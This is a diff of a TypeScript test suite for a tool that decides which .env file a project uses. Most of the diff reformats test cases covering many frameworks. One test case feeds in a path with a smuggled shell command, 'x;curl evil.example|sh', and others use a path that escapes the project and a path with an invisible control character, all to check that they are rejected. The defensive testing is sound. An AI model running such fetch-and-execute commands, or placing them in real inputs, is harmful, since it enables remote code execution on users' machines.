@@ -11,8 +11,7 @@ async function envFileOf(files: Record<string, string>, prepare?: (world: TestWo
   const { envFile } = await settleScope(world.world, world.ports, requested === undefined ? {} : { envFile: requested });
   return `${envFile.name} · ${envFile.reason}`;
 }
-const needing = (...names: string[]): string =>
-  JSON.stringify({ dependencies: Object.fromEntries(names.map((name) => [name, '*'])) });
+const needing = (...names: string[]): string => JSON.stringify({ dependencies: Object.fromEntries(names.map((name) => [name, '*'])) });
 const key = `OPENAI_API_KEY=${fakeKey('sk-proj-')}\n`;
 
 describe('which env file, and why', () => {
@@ -27,28 +26,72 @@ describe('which env file, and why', () => {
     ['Rails', { Gemfile: 'gem "rails"\ngem "dotenv-rails"\n' }, '.env · Rails projects keep it there'],
     ['dotenv beside Next.js', { 'package.json': needing('next', 'dotenv') }, '.env · dotenv reads it'],
     ['an example', { '.env.local.example': 'A=\n' }, '.env.local · .env.local.example is its example'],
-    ['an example of a mode', { '.env.development.example': 'A=\n', 'package.json': needing('vite') }, '.env.development · .env.development.example is its example'],
+    [
+      'an example of a mode',
+      { '.env.development.example': 'A=\n', 'package.json': needing('vite') },
+      '.env.development · .env.development.example is its example',
+    ],
     ['an example for tests', { '.env.test.example': 'A=\n' }, '.env · the usual place'],
     ['the README before the example', { 'README.md': 'cp .env.example .env.local', '.env.example': '' }, '.env.local · README.md names it'],
-    ['code before the README', { 'README.md': 'cp .env.example .env.local', 'src/a.js': `dotenv.config({path: 'config/.env'})` }, 'config/.env · dotenv.config() names it'],
+    [
+      'code before the README',
+      { 'README.md': 'cp .env.example .env.local', 'src/a.js': `dotenv.config({path: 'config/.env'})` },
+      'config/.env · dotenv.config() names it',
+    ],
     ['Python code', { 'main.py': 'load_dotenv(".env.dev")' }, '.env.dev · load_dotenv() names it'],
     ['a script', { 'package.json': '{"scripts": {"dev": "node --env-file=.env.dev x.js"}}' }, '.env.dev · the script “dev” names it'],
-    ['dotenv without its name', { 'package.json': needing('dotenv'), 'a.js': `require("dotenv").config({ path: 'config/dev.env' })` }, 'config/dev.env · dotenv.config() names it'],
-    ['dotenv by its function', { 'package.json': needing('dotenv'), 'a.mjs': `import { config } from 'dotenv';\nconfig({ path: '.env.local' });` }, '.env.local · dotenv.config() names it'],
-    ["another's function of that name", { 'a.mjs': `import { config } from './config.js';\nconfig({ path: '.env.local' });` }, '.env · the usual place'],
-    ['a program of several in Go', { 'go.mod': 'module x', 'cmd/api/main.go': 'godotenv.Load(".env.local")' }, '.env.local · godotenv.Load() names it'],
+    [
+      'dotenv without its name',
+      { 'package.json': needing('dotenv'), 'a.js': `require("dotenv").config({ path: 'config/dev.env' })` },
+      'config/dev.env · dotenv.config() names it',
+    ],
+    [
+      'dotenv by its function',
+      { 'package.json': needing('dotenv'), 'a.mjs': `import { config } from 'dotenv';\nconfig({ path: '.env.local' });` },
+      '.env.local · dotenv.config() names it',
+    ],
+    [
+      "another's function of that name",
+      { 'a.mjs': `import { config } from './config.js';\nconfig({ path: '.env.local' });` },
+      '.env · the usual place',
+    ],
+    [
+      'a program of several in Go',
+      { 'go.mod': 'module x', 'cmd/api/main.go': 'godotenv.Load(".env.local")' },
+      '.env.local · godotenv.Load() names it',
+    ],
     ['Rust', { 'Cargo.toml': '', 'src/main.rs': 'dotenvy::from_filename("dev.env").ok();' }, 'dev.env · dotenvy::from_filename() names it'],
-    ['Symfony', { 'composer.json': '{}', 'symfony.lock': '{}', '.env': 'APP_ENV=dev\n' }, '.env.local · Symfony keeps secrets of this computer there'],
+    [
+      'Symfony',
+      { 'composer.json': '{}', 'symfony.lock': '{}', '.env': 'APP_ENV=dev\n' },
+      '.env.local · Symfony keeps secrets of this computer there',
+    ],
     ['Wrangler', { 'package.json': needing('wrangler') }, '.dev.vars · Wrangler projects keep it there'],
     ['dotenv-flow', { 'package.json': needing('dotenv-flow') }, '.env.local · dotenv-flow keeps secrets of this computer there'],
     ['a compose file', { 'compose.yaml': 'services:\n  a:\n    env_file: app.env\n' }, 'app.env · compose.yaml names it'],
     ['code that names what nobody can type', { 'a.js': `dotenv.config({path: 'a\u202e/.env'})` }, '.env · the usual place'],
     ['code that names a command', { 'a.js': `dotenv.config({path: 'x;curl evil.example|sh;/.env'})` }, '.env · the usual place'],
-    ['code that names letters of any language', { 'a.js': `dotenv.config({path: './größe 1/@日本/.env'})` }, 'größe 1/@日本/.env · dotenv.config() names it'],
+    [
+      'code that names letters of any language',
+      { 'a.js': `dotenv.config({path: './größe 1/@日本/.env'})` },
+      'größe 1/@日本/.env · dotenv.config() names it',
+    ],
     ['code that leads out of the project', { 'a.js': `dotenv.config({path: '../../secrets/.env'})` }, '.env · the usual place'],
-    ['the file with the key', { 'package.json': needing('next'), '.env': key, '.env.example': '' }, '.env · it holds OPENAI_API_KEY already'],
-    ['the one that wins of two', { 'package.json': needing('next'), '.env': key, '.env.local': key }, '.env.local · it holds OPENAI_API_KEY already'],
-    ['a placeholder does not count', { 'package.json': needing('next'), '.env': 'OPENAI_API_KEY=your-key\n' }, '.env.local · Next.js keeps secrets of this computer there'],
+    [
+      'the file with the key',
+      { 'package.json': needing('next'), '.env': key, '.env.example': '' },
+      '.env · it holds OPENAI_API_KEY already',
+    ],
+    [
+      'the one that wins of two',
+      { 'package.json': needing('next'), '.env': key, '.env.local': key },
+      '.env.local · it holds OPENAI_API_KEY already',
+    ],
+    [
+      'a placeholder does not count',
+      { 'package.json': needing('next'), '.env': 'OPENAI_API_KEY=your-key\n' },
+      '.env.local · Next.js keeps secrets of this computer there',
+    ],
     ['a key in a file that nothing reads', { 'package.json': needing('nuxt'), '.env.local': key }, '.env · Nuxt projects keep it there'],
   ])('%s', async (_name, files, expected) => {
     expect(await envFileOf(files)).toBe(expected);
